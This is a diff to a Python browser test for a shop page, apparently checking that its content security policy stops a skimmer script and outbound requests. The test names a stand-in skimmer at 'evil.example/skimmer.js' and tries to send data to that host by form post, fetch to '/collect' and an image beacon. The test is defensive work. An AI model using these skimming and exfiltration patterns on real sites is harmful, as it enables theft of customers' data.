@@ -23,7 +23,7 @@ FOREIGN = "https://evil.example/skimmer.js"
 
 
 class Scripts:
-    """The scripts that a page itself runs, by their names in the inventory; those inside the providers' frames do not count."""
+    """The scripts that a page itself runs, by their names in the inventory; the providers' frames run others."""
 
     def __init__(self, alice: Customer) -> None:
         self._page, self._shop = alice.page, alice.shop
@@ -124,13 +124,14 @@ def test_what_a_slipped_in_form_or_frame_would_send_away_stays_here(alice: Custo
 
     sent = alice.page.evaluate(
         """async () => {
-            const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" });
+            const form = document.createElement("form");
+            Object.assign(form, { action: "https://evil.example/", method: "post" });
             document.body.append(form);
             form.submit();
             const asked = await fetch("https://evil.example/collect").then(() => true, () => false);
-            const beacon = new Promise((done) => document.addEventListener("securitypolicyviolation", done, { once: true }));
+            const refused = new Promise((done) => document.addEventListener("securitypolicyviolation", done));
             document.body.append(Object.assign(document.createElement("img"), { src: "https://evil.example/pixel" }));
-            await beacon;
+            await refused;
             return asked;
         }"""
     )
